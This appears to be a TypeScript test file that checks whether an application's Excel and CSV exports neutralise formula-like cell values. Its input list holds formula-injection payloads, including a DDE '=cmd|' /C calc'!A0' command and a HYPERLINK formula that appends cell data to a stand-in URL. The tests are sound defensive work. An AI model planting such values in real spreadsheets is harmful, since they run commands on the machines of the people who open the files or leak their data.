// Files for spreadsheet programs, with names, reasons and answers that begin like formulas: nothing in any of them is
// computed, neither in the workbook nor in a .csv that is made of it.
import ExcelJS from 'exceljs'
import { expect, it } from 'vitest'
import type { Snapshot } from '../../app/whole.ts'
import type { Fairness } from '../../domain/fairness.ts'
import { documents } from '../../files/documents.ts'
import { exportBook } from '../../files/export-xlsx.ts'
import { report } from '../files/report-sample.ts'

const WORDS = [
  ...['=HYPERLINK("http://x/"&A1)', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '\n=1', "'=1", "''+1"],
  ...['＝1+1', '＋1', '－1', '＠x', "=cmd|' /C calc'!A0", '_x003D_1+1', '=1\u0007'],
]
/** Those that hold neither line breaks, which programs write each in their way, nor controls. */
const PLAIN = WORDS.filter((word) => !/\p{Cc}/u.test(word))
const READABLE = WORDS.filter((word) => !word.includes('\u0007'))
/** What a cell may begin with after the guard: anything but a sign a formula begins with, guards taken off or not. */
const COMPUTES = /^[=+\-@\t\r\n＝＋－＠]/
const at = new Date('2026-11-23T01:00:00Z')
const everywhere = <T extends string>(names: readonly T[], word: string) =>
  Object.fromEntries(names.map((name) => [name, word])) as Record<T, string>

const person = (word: string) => ({
  ...everywhere(['cardNo', 'name', 'region', 'code', 'institution', 'byName', 'text', 'note'], word),
  ...{ what: 'pair', observed: 1, expected: 1, p: 1, adjusted: 1, draws: 1, seats: 1, low: 0, high: 1 },
  ...{ pSeats: 1, asked: 1, held: 1, declined: 0, silent: 0, chiSquare: null, kolmogorov: null, parts: [] },
})
const interventions = {
  ...{ drawn: 0, planned: 0, abandoned: 0, lapsed: 0, rerolled: 0, cancelled: 0, redrawnSeats: 0 },
  ...{ released: 0, moved: 0, plansDrawn: 0, plansAbandoned: 0, plansRerolled: 0, drawnAnew: 0 },
}
const fairness = {
  ...{ head: { seq: 1, hash: 'x' }, looks: { persons: 1, pairs: 1, declines: 1 }, declineRate: 0 },
  ...{
    interventions,
    remarkable: WORDS.map(person),
    persons: WORDS.map(person),
    pairs: WORDS.map(person),
  },
} as unknown as Fairness

const member = (name: string) => ({
  ...{ name, cardNo: name, leader: false, checkedInAt: null, distance: name, submittedAt: null },
})
const asked = { number: 1, severity: '', photos: [] }
const answered = WORDS.map((word) => ({
  ...asked,
  ...everywhere(['label', 'answer', 'article', 'note', 'section'], word),
}))
const difference = {
  ...{ number: 1, label: '=1', joint: '=1', given: WORDS.map((name) => ({ name, answer: name })) },
}
const snapshot = {
  async *cells() {
    yield WORDS.map((word) => ({ name: word, reason: word }))
  },
} as unknown as Snapshot

const BOOKS: [string, () => Promise<Uint8Array>][] = [
  [
    'the report of an inspection',
    () =>
      documents.reportXlsx(
        report({
          ...{ findings: answered as never, rows: answered as never, members: WORDS.map(member) },
          team: { differences: [difference] } as never,
        }),
      ),
  ],
  [
    'the archive of a person',
    () =>
      documents.archiveXlsx({
        ...everywhere(['agency', 'title', 'cardNo', 'none', 'footer'], '=1'),
        ...{ title: 'a', madeAt: at, timezone: 'Asia/Shanghai' },
        facts: WORDS.map((word) => ({ name: word, value: word, wide: false })),
        tables: [{ name: 'b', columns: WORDS.map((name) => ({ name, width: 1 })), rows: [WORDS] }],
      }),
  ],
  [
    'the appraisals of a year',
    () =>
      documents.appraisalsXlsx({
        ...{ year: 2026, at, agency: '=1', lang: 'zh', zone: 'Asia/Shanghai', entries: [] },
        feedback: WORDS.map((word) => ({
          ...person(word),
          points: {},
          dispatchId: 1,
          at,
          startsAt: at,
        })) as never,
        marks: WORDS.map((word) => ({ ...person(word), points: 1, at })) as never,
      }),
  ],
  [
    'the fairness of a year',
    () => documents.fairnessXlsx({ fairness, year: 2026, at, agency: '=1', lang: 'zh' }),
  ],
  [
    'the whole data',
    () =>
      exportBook(
        snapshot,
        { fileName: { zh: '', en: '' }, sheets: [{ name: 'x', title: { zh: '名', en: 'x' } }] },
        { zone: 'Asia/Shanghai', lang: 'zh' },
      ),
  ],
]

it.each(BOOKS)('%s computes nothing', async (_, make) => {
  const book = new ExcelJS.Workbook()
  await book.xlsx.load((await make()) as never)
  const shown: string[] = []
  for (const sheet of book.worksheets)
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        expect([ExcelJS.ValueType.String, ExcelJS.ValueType.Number], cell.text).toContain(cell.type)
        // Excel undoes this escape of the format; the reader used here does so in some sheets only.
        if (cell.type === ExcelJS.ValueType.String) shown.push(String(cell.value).replace('_x005F_', '_'))
      }),
    )
  expect(shown.filter((text) => COMPUTES.test(text))).toEqual([])
  // All of them are there, as they were typed behind the guard.
  for (const word of PLAIN)
    expect(
      shown.some((text) => text === word || text === `'${word}`),
      word,
    ).toBe(true)
})

it('a roster is text in every cell, and a list of problems guards what it quotes', async () => {
  const rows = PLAIN.map((name, n) => ({
    ...{ cardNo: `R3621${String(n).padStart(4, '0')}`, name, kind: 'external', region: name, unit: name },
    ...{ telegramId: null, termStart: null, termNo: null, language: 'zh' },
  }))
  const { bytes, fileName } = await documents.supervisorsSheet(rows as never, 'xlsx', 'zh')
  const book = new ExcelJS.Workbook()
  await book.xlsx.load(bytes as never)
  book.worksheets[0]?.eachRow((row) =>
    row.eachCell((cell) => {
      expect(cell.type).toBe(ExcelJS.ValueType.String)
      expect(cell.numFmt).toBe('@')
    }),
  )
  const again = await documents.readSheet(bytes, fileName)
  expect(again.ok && again.rows.map(({ cells }) => cells.name)).toEqual(rows.map(({ name }) => name))
  const { bytes: csv } = documents.csv('x.csv', [['a', 'b'], ...READABLE.map((word) => [word, 'x'])])
  const read = await documents.readSheet(csv, 'x.csv')
  expect(read.ok && read.rows.map(({ cells }) => cells.a)).toEqual(READABLE)
  const lines = Buffer.from(csv)
    .toString()
    .replace(/^\ufeff/, '')
    .split('\r\n')
  expect(lines.filter((line) => COMPUTES.test(line.replace(/^"/, '')))).toEqual([])
})
